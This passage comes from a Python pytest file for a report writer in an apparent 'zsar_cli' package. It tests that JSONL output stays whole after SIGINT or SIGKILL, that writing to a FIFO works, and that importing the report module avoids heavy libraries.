    assert [json.loads(line)["path"] for line in done.stdout.splitlines()] == [f"{number}.mp4" for number in range(11)]


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX signals")
@pytest.mark.parametrize("kind", [signal.SIGINT, getattr(signal, "SIGKILL", None)])
def test_signals_leave_whole_lines(tmp_path, kind):
    command = [sys.executable, "-c", SCRIPT, "jsonl", str(tmp_path / "r.jsonl")]
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as process:
        assert process.stderr.readline() == "ten\n"
        process.send_signal(kind)
        errors = process.stderr.read()
    (left,) = tmp_path.iterdir()
    rows = [json.loads(line) for line in left.read_text().splitlines()]
    assert [row["path"] for row in rows] == [f"{number}.mp4" for number in range(len(rows))] and len(rows) > 10
    killed = kind != signal.SIGINT
    assert left.name == ("r.jsonl.part" if killed else "r.jsonl")
    assert errors == ("" if killed else f"interrupted: {len(rows)}\n")


@linux_only
def test_a_fifo_is_written_directly(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    command = [sys.executable, "-c", f"import sys; sys.stdout.write(open({str(fifo)!r}).read())"]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as reader:
        with open_writer("jsonl", fifo, overwrite=False, run=RUN) as writer:
            writer.write(DONE)
        assert json.loads(reader.communicate()[0])["path"] == DONE.path
    assert list(tmp_path.iterdir()) == [fifo]


def test_importing_the_report_is_cheap():
    code = "import sys, zsar_cli.report, zsar_cli.labels; print(*sys.modules)"
    modules = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split()
    assert "zsar_cli.report.writer" in modules
    assert not {"torch", "numpy", "transformers", "av", "PIL"} & set(modules)
